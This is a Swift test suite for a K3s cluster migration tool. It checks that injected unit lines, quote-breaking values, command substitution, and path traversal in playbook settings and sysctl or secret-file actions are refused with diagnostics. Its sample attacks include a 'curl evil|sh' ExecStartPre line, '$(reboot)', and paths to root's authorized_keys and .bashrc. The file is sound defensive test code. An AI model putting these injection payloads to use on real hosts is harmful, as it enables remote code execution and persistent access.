import Testing
@testable import K3sMigrateCore

/// Values that would add lines to a unit, break out of a quoted word, or be nonsense for their
/// key: refused before anything is planned, naming the key and the value's source.
@Suite("Planned values are validated for their key")
struct PlannedValuesTests {
    static func playbook(_ key: String, _ value: SettingSpec.Value, line: Int = 7) -> Playbook {
        Playbook(name: "custom", summary: "test",
                 settings: [SettingSpec(key: key, value: value, location: SourceLocation(file: "pb.yaml", line: line))],
                 file: "pb.yaml")
    }

    static var fleet: TestFleet {
        var fleet = TestFleet()
        fleet.server("s1", config: "cluster-init: true\n", unitFlags: ["--node-ip=10.0.0.1"])
        fleet.agent("a1")
        return fleet
    }

    struct Attack: Sendable, CustomTestStringConvertible {
        var key: String
        var value: String
        var why: String
        var testDescription: String { "\(key)=\(value.debugDescription)" }
    }

    static let attacks: [Attack] = [
        Attack(key: "node-ip", value: "10.0.0.1\nExecStartPre=/bin/sh -c 'curl evil|sh'", why: "control character"),
        Attack(key: "node-external-ip", value: "203.0.113.9' '--token=stolen", why: "'''"),
        Attack(key: "kubelet-arg", value: "max-pods=110\" \"--x", why: "'\"'"),
        Attack(key: "node-label", value: "a=b\\", why: "a backslash"),
        Attack(key: "node-label", value: "a=$(reboot)", why: "'$'"),
        Attack(key: "node-label", value: "a=b\u{0}c", why: "control character"),
        Attack(key: "node-ip", value: "not-an-ip", why: "is not an IPv4 or IPv6 address"),
        Attack(key: "cluster-cidr", value: "10.42.0.0/16,10.99.0.0", why: "is not a CIDR"),
        Attack(key: "flannel-backend", value: "vxlan-ish", why: "is not a flannel backend"),
        Attack(key: "flannel-ipv6-masq", value: "maybe", why: "is not a boolean"),
    ]

    @Test("a playbook value is refused at its line, naming the key", arguments: attacks)
    func playbookValue(_ attack: Attack) throws {
        let value: SettingSpec.Value = attack.key == "kubelet-arg" || attack.key == "node-label" ? .addItem(attack.value) : .scalar(attack.value)
        let failure = #expect(throws: DiagnosticsError.self) { try Self.fleet.plan(Self.playbook(attack.key, value)) }
        let diagnostic = try #require(failure?.diagnostics.first { $0.rule == "invalid-value" })
        #expect(diagnostic.location == SourceLocation(file: "pb.yaml", line: 7))
        #expect(diagnostic.message.hasPrefix("\(attack.key): "), "\(diagnostic.message)")
        #expect(diagnostic.message.contains(attack.why), "\(diagnostic.message)")
    }

    @Test("a --set value is refused naming --set and the key, before it reaches the playbook", arguments: attacks)
    func setValue(_ attack: Attack) throws {
        let playbook = Self.playbook(attack.key, .scalar("10.0.0.2"))
        let failure = #expect(throws: DiagnosticsError.self) { _ = try playbook.overriding([SettingOverride(key: attack.key, value: attack.value)]) }
        #expect(failure?.diagnostics.first?.message.hasPrefix("--set \(attack.key): ") == true)
    }

    @Test("playbook keys are K3s flag names")
    func unknownKey() throws {
        let failure = #expect(throws: DiagnosticsError.self) { try Self.fleet.plan(Self.playbook("flannel_backend", .scalar("vxlan"))) }
        #expect(failure?.diagnostics.contains { $0.message == "'flannel_backend' is not a K3s flag name" } == true)
    }

    @Test("probe output that is not one address is refused, naming the host and the probe")
    func probeOutput() throws {
        var fleet = TestFleet()
        fleet.server("s1", config: "cluster-init: true\n")
        fleet.overrides = ["s1": { $0.probes["external-ip"] = "203.0.113.7\n--token=x" }]
        var inventory = fleet.inventory
        inventory.servers[0].externalIP = .command("curl -s ifconfig.me")
        let playbook = Self.playbook("node-external-ip", .externalIP)
        let failure = #expect(throws: DiagnosticsError.self) { try Planner.plan(inventory: inventory, playbook: playbook, facts: fleet.facts) }
        let diagnostic = try #require(failure?.diagnostics.first { $0.rule == "invalid-value" })
        #expect(diagnostic.host == "s1")
        #expect(diagnostic.message.contains("the external_ip command printed"), "\(diagnostic.message)")
        #expect(!diagnostic.message.contains("\n"))
    }

    @Test("sysctl and secret-file actions: keys, values and paths are checked at their playbook line")
    func actions() throws {
        let bad = [
            "actions:\n  - sysctl: {key: \"net.ipv4.ip_forward\\nkernel.x\", value: \"1\"}\n",
            "actions:\n  - sysctl: {key: ../../etc/passwd, value: \"1\"}\n",
            "actions:\n  - sysctl: {key: net.ipv4.ip_forward, value: \"1\\nkernel.panic = 1\"}\n",
            "actions:\n  - sysctl: {key: net.ipv4.ip_forward, value: \"1\", file: /etc/sysctl.d/../../root/.bashrc}\n",
            "actions:\n  - sysctl: {key: net.ipv4.ip_forward, value: \"1\", file: /etc/profile.d/x.conf}\n",
            "actions:\n  - secret-file: {path: \"/etc/rancher/k3s/../../../root/.ssh/authorized_keys\", from_env: K}\n",
            "actions:\n  - secret-file: {path: \"/etc/rancher/k3s/vpn auth\", from_env: K}\n",
        ]
        for body in bad {
            let text = "name: x\nsummary: y\n" + body
            let failure = #expect(throws: DiagnosticsError.self, "\(body)") { _ = try PlaybookParser.parse(text, file: "pb.yaml") }
            #expect(failure?.diagnostics.first?.location?.line == 4, "\(body): \(failure?.description ?? "")")
        }
        _ = try PlaybookParser.parse("name: x\nsummary: y\nactions:\n  - sysctl: {key: net.ipv6.conf.all.accept_ra, value: \"2\"}\n", file: "pb.yaml")
    }

    @Test("--limit '' is an error, not the whole fleet; an unknown name is named with a suggestion")
    func limit() throws {
        let inventory = Self.fleet.inventory
        #expect(inventory.hosts(matching: "").isEmpty)
        #expect(inventory.limitProblems("").first?.message.contains("has an empty name") == true)
        #expect(inventory.limitProblems("s1,,a1").count == 1)
        #expect(inventory.limitProblems("s1,agents,role=edge").isEmpty)
        #expect(inventory.limitProblems("s2").first?.message == "--limit names 's2', which is not a host of the inventory (did you mean s1?)")
        let failure = #expect(throws: DiagnosticsError.self) {
            try Self.fleet.plan(TestFleet.playbook, options: PlanOptions(limit: ""))
        }
        #expect(failure?.diagnostics.first?.rule == "limit")
    }
}
